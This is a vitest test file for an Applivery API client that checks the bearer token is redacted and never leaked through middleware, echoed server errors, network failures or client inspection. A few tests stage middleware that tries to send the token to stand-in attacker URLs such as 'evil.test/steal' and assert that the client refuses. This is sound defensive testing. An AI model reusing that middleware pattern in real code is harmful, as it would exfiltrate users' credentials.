// The API token: never on anything middleware or a kept reference can reach, never in an error in
// any form a server may echo it in, never taken out of the data a caller receives, never mixed
// between clients.
import { inspect } from "node:util";
import { describe, expect, it } from "vitest";
import {
  AppliveryApiError,
  type AppliveryClientOptions,
  AppliveryError,
  createAppliveryClient,
  MIN_REDACTED_LENGTH,
} from "../../src/index.js";
import { loopback } from "../support/loopback.js";
import {
  anOperation,
  argsOf,
  fetchCallOf,
  initOf,
  type LooseResult,
  methodOf,
  operationCases,
  successData,
} from "../support/operation-cases.js";
import { expectNoToken, rejection, reveals, tokenForms } from "../support/secrets.js";
import { apiError, json, ok, type Reply, stubFetch } from "../support/stub-fetch.js";

const BASE = "https://api.example.test/v1";
/** Tokens with the characters escapers treat specially: `/`, `<`, `>`, `"`, `&`, `=`, `'`, `\`, `%`, `+`, `?`, `#`. */
const TOKENS = ["s3cr3t-T0ken_4f9a8b7c", `k/3y<Z>"q"&=Ab9'x`, "p%2Fq+r/s?t#u~v=w", "back\\slash/x<y>z"];
const first = anOperation();

function setup(token: string, replies: Reply[], options: Partial<AppliveryClientOptions> = {}) {
  const stub = stubFetch(...replies);
  const client = createAppliveryClient({ token, baseUrl: BASE, fetch: stub.fetch, retry: false, ...options });
  return { ...stub, client };
}

const hex = (c: string) => c.charCodeAt(0).toString(16).padStart(4, "0");
const jsonText = (t: string) => JSON.stringify(t).slice(1, -1);
/** How encoders print a string inside JSON: PHP escapes `/`, Go escapes `<`, `>`, `&`, an HTML-safe one all of them. */
const phpJson = (t: string) => jsonText(t).replaceAll("/", "\\/");
const goJson = (t: string) => jsonText(t).replace(/[<>&]/g, (c) => `\\u${hex(c)}`);
const htmlJson = (t: string) => phpJson(t).replace(/[<>&'=]/g, (c) => `\\u${hex(c)}`);
const allEscaped = (t: string) => [...t].map((c) => `\\u${hex(c)}`).join("");
const lowerPercent = (t: string) => encodeURIComponent(t).replace(/%[0-9A-F]{2}/g, (e) => e.toLowerCase());
const bodyText = (text: string, status: number, contentType = "application/json") =>
  new Response(text, { status, headers: { "content-type": contentType } });

/** A server's answers that echo the token (read from the Authorization header it received). */
const echoes: [string, (token: string) => Response][] = [
  ["raw, in the error message", (t) => apiError(4004, `Invalid Token ${t}`, 401)],
  ...[phpJson, goJson, htmlJson, allEscaped].map((encode): [string, (token: string) => Response] => [
    `escaped by the server's JSON encoder (${encode.name})`,
    (t) => bodyText(`{"status":false,"error":{"code":4004,"message":"Invalid Token ${encode(t)}"}}`, 401),
  ]),
  ...[phpJson, goJson, htmlJson, allEscaped].map((encode): [string, (token: string) => Response] => [
    `as JSON text inside the message (${encode.name})`,
    (t) => apiError(4004, `header was {"authorization":"Bearer ${encode(t)}"}`, 401),
  ]),
  ["URL-encoded in the message", (t) => apiError(4004, `see /login?token=${encodeURIComponent(t)}`, 401)],
  ["URL-encoded in lower case in the message", (t) => apiError(4004, `see /login?token=${lowerPercent(t)}`, 401)],
  ["twice in a row in the message", (t) => apiError(4004, `${t}${t}`, 401)],
  [
    "in the Content-Type of a non-JSON answer",
    (t) => bodyText("<html>Bad gateway</html>", 502, `text/html; charset=utf-8; x="${t}"`),
  ],
  [
    "in a JSON body that is not an envelope (values and keys)",
    (t) => json({ message: `bad ${t}`, [t]: [t, { nested: encodeURIComponent(t) }] }, 500),
  ],
  ["in a success envelope on an error status", (t) => json({ status: true, data: { echo: t } }, 500)],
  ["in a success envelope's data with status false", (t) => json({ status: false, data: t }, 200)],
];

const echoing =
  (make: (token: string) => Response): Reply =>
  (request) =>
    make((request.headers.get("authorization") ?? "").replace(/^Bearer /, ""));

/** Network failures as fetch implementations report them, the token in every part. */
const failures: [string, (token: string) => unknown][] = [
  [
    "undici's shape: TypeError with a cause carrying code and name",
    (t) =>
      new TypeError("fetch failed", {
        cause: Object.assign(new Error(`connect ECONNREFUSED ${t}`), { code: `E${t}`, name: `SystemError ${t}` }),
      }),
  ],
  ["message, name and code", (t) => Object.assign(new Error(`failed with Bearer ${t}`), { name: `Bad${t}`, code: t })],
  [
    "a cause chain of eight",
    (t) => {
      let error = new Error(`root ${encodeURIComponent(t)}`);
      for (let i = 0; i < 7; i++) error = new Error(`level ${i} ${i % 2 ? t : jsonText(t)}`, { cause: error });
      return error;
    },
  ],
  [
    "own properties (axios-like config)",
    (t) => Object.assign(new Error("boom"), { config: { headers: { authorization: t } } }),
  ],
  ["an AggregateError", (t) => new AggregateError([new Error(t)], `several: ${t}`)],
  ["a cause that is not an error", (t) => new Error("boom", { cause: { token: t } })],
  ["a string", (t) => `network down for ${t}`],
  ["a plain object", (t) => ({ message: t, token: t })],
];

describe("(1) middleware and kept references never see the token", () => {
  it("onRequest keeping openapi-fetch's Request reads no Authorization: during the fetch, a tick later, after the call", async () => {
    const [token = ""] = TOKENS;
    const readings: (string | null)[] = [];
    let kept: Request | undefined;
    let fetchStarted: () => void = () => {};
    const started = new Promise<void>((resolve) => {
      fetchStarted = resolve;
    });
    const { client, calls } = setup(token, [
      async () => {
        fetchStarted();
        // Answer only after the middleware's delayed readings ran.
        for (let i = 0; i < 5; i++) await new Promise((resolve) => setImmediate(resolve));
        return ok(successData(first));
      },
    ]);
    client.use({
      onRequest({ request }) {
        kept = request;
        readings.push(request.headers.get("authorization"));
        setImmediate(() => readings.push(request.headers.get("authorization")));
        queueMicrotask(() => readings.push(request.headers.get("authorization")));
        void started.then(() => readings.push(request.headers.get("authorization")));
      },
      onResponse({ request }) {
        readings.push(request.headers.get("authorization"));
      },
    });
    await fetchCallOf(client, first.method)(first.path, initOf(first));
    await new Promise((resolve) => setImmediate(resolve));
    readings.push(kept?.headers.get("authorization") ?? null);
    expect(readings).toEqual([null, null, null, null, null, null]);
    expect([...(kept?.headers ?? new Headers()).values()].join(" ")).not.toContain(token);
    expect(inspect(kept, { showHidden: true, depth: 20 })).not.toContain(token);
    expect(calls[0]?.headers.get("authorization")).toBe(`Bearer ${token}`);
  });

  it("with the default fetch (a loopback server), a kept Request never holds the token either", async () => {
    const [token = ""] = TOKENS;
    const server = await loopback((req, res) => {
      setImmediate(() => {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(JSON.stringify({ status: true, data: { authorization: req.headers.authorization } }));
      });
    });
    const client = createAppliveryClient({ token, baseUrl: server.url });
    const kept: Request[] = [];
    const later: (string | null)[] = [];
    client.use({
      onRequest({ request }) {
        kept.push(request);
        setImmediate(() => later.push(request.headers.get("authorization")));
      },
    });
    const result = await fetchCallOf(client, first.method)(first.path, initOf(first));
    await new Promise((resolve) => setImmediate(resolve));
    expect(result.data).toEqual({ status: true, data: { authorization: `Bearer ${token}` } });
    expect(later).toEqual([null]);
    expect(kept[0]?.headers.get("authorization")).toBeNull();
  });

  it("middleware's options.fetch cannot send the token outside baseUrl", async () => {
    const [token = ""] = TOKENS;
    const outside = [
      "https://evil.test/steal",
      `${BASE}/../steal`,
      `${BASE}evil/steal`,
      "https://api.example.test/v2/x",
      "http://api.example.test/v1/x",
      "https://api.example.test.evil.test/v1/x",
    ];
    const { client, calls } = setup(token, [ok({})]);
    const errors: unknown[] = [];
    client.use({
      async onRequest({ options }) {
        for (const url of outside) errors.push(await rejection(options.fetch(new Request(url))));
      },
    });
    await fetchCallOf(client, first.method)(first.path, initOf(first));
    expect(errors).toHaveLength(outside.length);
    for (const error of errors) {
      expect(error).toBeInstanceOf(AppliveryError);
      expect(error).toMatchObject({ kind: "request" });
      expect((error as Error).message).toContain(`refused to send the token outside ${BASE}`);
    }
    // Only the call itself reached the fetch.
    expect(calls).toHaveLength(1);
    expect(calls[0]?.url.startsWith(`${BASE}/organizations/`)).toBe(true);
  });

  it("onRequest replacing the Request with one for another origin gets a request error, and nothing is sent", async () => {
    const [token = ""] = TOKENS;
    const { client, calls } = setup(token, [ok({})]);
    client.use({ onRequest: ({ request }) => new Request("https://evil.test/steal", request) });
    const error = await rejection(fetchCallOf(client, first.method)(first.path, initOf(first)));
    expect(error).toMatchObject({ kind: "request" });
    expect(calls).toHaveLength(0);
  });

  it("onError sees only the package's error, with no token in it", async () => {
    const [, token = ""] = TOKENS;
    const seen: unknown[] = [];
    const { client } = setup(token, [new Error(`connect failed ${token}`, { cause: new Error(token) })]);
    client.use({
      onError({ error }) {
        seen.push(error);
      },
    });
    const error = await rejection(fetchCallOf(client, first.method)(first.path, initOf(first)));
    expect(seen).toEqual([error]);
    expect(error).toMatchObject({ kind: "network" });
    expectNoToken(seen[0], token);
  });
});

describe.each(TOKENS)("(2) token %s echoed by the server never reaches an error", (token) => {
  it("the check itself finds the token in each form the echoes use", () => {
    for (const encode of [jsonText, phpJson, goJson, htmlJson, allEscaped, encodeURIComponent, lowerPercent]) {
      expect(reveals(`x ${encode(token)} y`, token), encode.name).toBe(true);
      expect(reveals(JSON.stringify({ m: `x ${encode(token)} y` }), token), encode.name).toBe(true);
    }
    expect(reveals("nothing here", token)).toBe(false);
  });

  describe.each(echoes)("%s", (_, make) => {
    it("generated method: rejects with an AppliveryError without the token", async () => {
      const { client } = setup(token, [echoing(make)]);
      const error = await rejection(methodOf(client, first.operationId)(argsOf(first)));
      expect(error).toBeInstanceOf(AppliveryError);
      expectNoToken(error, token);
    });

    it("client.GET/POST: a rejection holds no token; a result is the server's answer as sent", async () => {
      const { client } = setup(token, [echoing(make)]);
      const outcome: LooseResult | Error = await fetchCallOf(client, first.method)(first.path, initOf(first)).then(
        (result) => result,
        (error: Error) => error,
      );
      if (outcome instanceof Error) {
        expect(outcome).toBeInstanceOf(AppliveryError);
        expectNoToken(outcome, token);
      } else {
        const sent = await make(token).json();
        expect(outcome.error).toEqual(sent);
        expect(reveals(outcome.operation, token)).toBe(false);
      }
    });
  });

  describe.each(failures)("a network failure: %s", (_, make) => {
    it.each(["generated method", "client.GET/POST"])("%s: kind network, no token anywhere", async (surface) => {
      const { client } = setup(token, [
        () => {
          throw make(token);
        },
      ]);
      const error = await rejection(
        surface === "generated method"
          ? methodOf(client, first.operationId)(argsOf(first))
          : fetchCallOf(client, first.method)(first.path, initOf(first)),
      );
      expect(error).toBeInstanceOf(AppliveryError);
      expect(error).toMatchObject({ kind: "network", operation: first.operationId });
      expectNoToken(error, token);
    });
  });

  it("a path the spec does not have, holding the token, is refused without naming it, and nothing is sent", async () => {
    const path = `/unknown/${encodeURIComponent(token)}`;
    const { client, calls } = setup(token, [json({ unexpected: true }, 404)]);
    const refused = await rejection(fetchCallOf(client, "GET")(path, {}));
    expect(refused).toMatchObject({ kind: "request" });
    expectNoToken(refused, token);
    expect(calls).toHaveLength(0);
  });

  it("middleware that throws the token gets a request error without it", async () => {
    const { client } = setup(token, [ok(successData(first))]);
    client.use({
      onRequest() {
        throw new Error(`middleware failed for ${token}`);
      },
    });
    const fromMiddleware = await rejection(fetchCallOf(client, first.method)(first.path, initOf(first)));
    expect(fromMiddleware).toMatchObject({ kind: "request" });
    expectNoToken(fromMiddleware, token);
  });

  it("passed by mistake as a path parameter, it is not quoted in the request error", async () => {
    const { client, calls } = setup(token, [ok(successData(first))]);
    const error = await rejection(
      methodOf(client, first.operationId)(argsOf(first, { organizationId: `${token}/..` })),
    );
    expect(error).toMatchObject({ kind: "request" });
    expect((error as Error).message).toContain("organizationId");
    expectNoToken(error, token);
    expect(calls).toHaveLength(0);
  });
});

describe("(3) data is never altered, whatever the token", () => {
  const tricky = ["t", "status", "data", "abc123", "d]Q", "[redacted]", "true", "null", "{", "\\", '"', "%", "a"];

  it.each(tricky)("token %j: a success answer holding it comes back as sent, on both surfaces", async (token) => {
    const data = {
      ...(successData(first) as object),
      enrollmentLink: `https://app.applivery.com/enroll/apple/${token}abc123`,
      echo: [token, `${token}${token}`, encodeURIComponent(token), { [token]: token }],
    };
    const envelope = { status: true, data };
    const { client } = setup(token, [() => json(envelope)]);
    await expect(methodOf(client, first.operationId)(argsOf(first))).resolves.toEqual(data);
    const result = await fetchCallOf(client, first.method)(first.path, initOf(first));
    expect(result.data).toEqual(envelope);
  });

  it.each(tricky)("token %j: an error envelope is still read as one (code, status)", async (token) => {
    const { client } = setup(token, [() => apiError(3001, "Entity not found", 404)]);
    const error = await rejection(methodOf(client, first.operationId)(argsOf(first)));
    expect(error).toBeInstanceOf(AppliveryApiError);
    expect(error).toMatchObject({ code: 3001, status: 404 });
  });

  it.each<[string, string]>([
    ["abcabcab", "abcabcabcabcab"],
    ["d]Qd]Qd]", "dd]Qd]Qd] d]Qd]Qd]d]Qd]Qd]Q"],
    ["redacted", "\u00b7\u00b7\u00b7 redactedd [redacted]"],
    ["tok]Q-12345", `tok${encodeURIComponent("]")}Q-12345 tok\\u005dQ-12345`],
  ])("token %j echoed as %j: the error message never holds a token re-formed by redaction", async (token, echo) => {
    const { client } = setup(token, [apiError(4004, echo, 401)]);
    const error = await rejection(methodOf(client, first.operationId)(argsOf(first)));
    expect(error).toBeInstanceOf(AppliveryApiError);
    expect((error as AppliveryApiError).apiMessage).not.toContain(token);
    expect((error as Error).message).not.toContain(token);
    expectNoToken(error, token);
  });

  it(`a token shorter than ${MIN_REDACTED_LENGTH} characters is no credential: messages stay readable`, async () => {
    const message = "Feature not allowed for you billing plan: body.mdmUserId";
    const { client } = setup("t", [apiError(5050, message, 400)]);
    const error = await rejection(methodOf(client, first.operationId)(argsOf(first)));
    expect((error as AppliveryApiError).apiMessage).toBe(message);
  });
});

describe("(4) the client itself", () => {
  it.each(TOKENS)(
    "inspect and JSON.stringify of a client (token %s) do not show it, before or after calls",
    async (token) => {
      const { client } = setup(token, [ok(successData(first))], { headers: { "x-trace": "1" } });
      const check = () => {
        const texts = [
          inspect(client, { showHidden: true, depth: 20 }),
          JSON.stringify(client),
          String(Object.values(client)),
        ];
        for (const form of tokenForms(token)) for (const text of texts) expect(text).not.toContain(form);
      };
      check();
      await methodOf(client, first.operationId)(argsOf(first));
      await fetchCallOf(client, first.method)(first.path, initOf(first));
      check();
    },
  );
});

describe("(5) many clients at once", () => {
  const plainCases = operationCases.filter((c) => !c.bulk);
  it("600 concurrent calls across 10 clients: each request carries its own client's token and gets its own answer", async () => {
    const owners = new Map<string, string>();
    const stub = stubFetch(async (request) => {
      for (let i = 0; i < (request.url.length % 4) + 1; i++) await new Promise((resolve) => setImmediate(resolve));
      const org = new URL(request.url).pathname.split("/")[3] ?? "";
      return ok({ org, authorization: request.headers.get("authorization") });
    });
    const clients = Array.from({ length: 10 }, (_, i) => {
      const token = `tok-${i}-${"x".repeat(i)}`;
      owners.set(`org-${i}-x`, token);
      return {
        org: `org-${i}-x`,
        token,
        client: createAppliveryClient({ token, baseUrl: BASE, fetch: stub.fetch }),
      };
    });
    const calls = Array.from({ length: 600 }, async (_, n) => {
      const { org, client, token } = clients[n % 10] ?? { org: "", client: undefined, token: "" };
      if (!client) throw new Error("no client");
      // Bulk operations are left out: their data must be counts, and this answer is an echo.
      const c = plainCases[n % plainCases.length] ?? first;
      const data =
        n % 2 === 0
          ? await methodOf(client, c.operationId)(argsOf(c, { organizationId: org }))
          : (
              (
                await fetchCallOf(client, c.method)(
                  c.path,
                  initOf(c, { params: { path: { ...c.pathValues, organizationId: org }, query: c.query } }),
                )
              ).data as { data: unknown }
            ).data;
      expect(data).toEqual({ org, authorization: `Bearer ${token}` });
    });
    await Promise.all(calls);
    expect(stub.calls).toHaveLength(600);
    for (const recorded of stub.calls) {
      const org = new URL(recorded.url).pathname.split("/")[3] ?? "";
      expect(recorded.headers.get("authorization")).toBe(`Bearer ${owners.get(org)}`);
    }
  });
});

describe("(6) redaction stays simple and linear", () => {
  it("an API message of 3 MB of backslashes is answered at once, cut, with no token", async () => {
    const token = TOKENS[0] ?? "";
    const { client } = setup(token, [apiError(4004, `${"\\".repeat(3_000_000)}${token}`, 401)]);
    const error = await rejection(methodOf(client, first.operationId)(argsOf(first)));
    expect(error).toBeInstanceOf(AppliveryApiError);
    expect((error as AppliveryApiError).apiMessage.length).toBeLessThan(2_100);
    expectNoToken(error, token);
  });

  it("a token of 20,000 characters is redacted like any other, and no SyntaxError spells it out", async () => {
    const token = `t0k-${"ab9".repeat(6_666)}`;
    const { client } = setup(token, [echoing((t) => apiError(4004, `Invalid Token ${t}`, 401))]);
    const error = await rejection(methodOf(client, first.operationId)(argsOf(first)));
    expect(error).toBeInstanceOf(AppliveryApiError);
    expectNoToken(error, token);
  });

  it("a token echoed in a page's nextPage is not quoted by paginate's error", async () => {
    const list = operationCases.find((c) => c.list);
    if (!list) throw new Error("the spec has no list operation");
    const token = TOKENS[0] ?? "";
    const page = { ...(list.data as object), hasNextPage: true, nextPage: token, page: 1, totalPages: 2 };
    const { client } = setup(token, [ok(page)]);
    const items: unknown[] = [];
    const error = await rejection(
      (async () => {
        for await (const item of client.paginate(list.operationId as never, argsOf(list) as never)) items.push(item);
      })(),
    );
    expect(error).toMatchObject({ kind: "response" });
    expectNoToken(error, token);
  });
});

describe("(7) text the client cuts is redacted before it is cut", () => {
  it.each(TOKENS)("a body that is no envelope, quoting token %s across the cut, shows no part of it", async (token) => {
    for (let shift = 0; shift < token.length; shift += 3) {
      const pad = "x".repeat(200 - 28 - shift);
      const { client } = setup(token, [echoing((t) => json({ note: pad, authorization: `Bearer ${t}` }, 200))]);
      const error = await rejection(methodOf(client, first.operationId)(argsOf(first)));
      expect(error).toMatchObject({ kind: "response" });
      // No piece of the token of 5 characters or more survives.
      const message = (error as Error).message;
      for (let i = 0; i + 5 <= token.length; i++) expect(message).not.toContain(token.slice(i, i + 5));
    }
  });
});
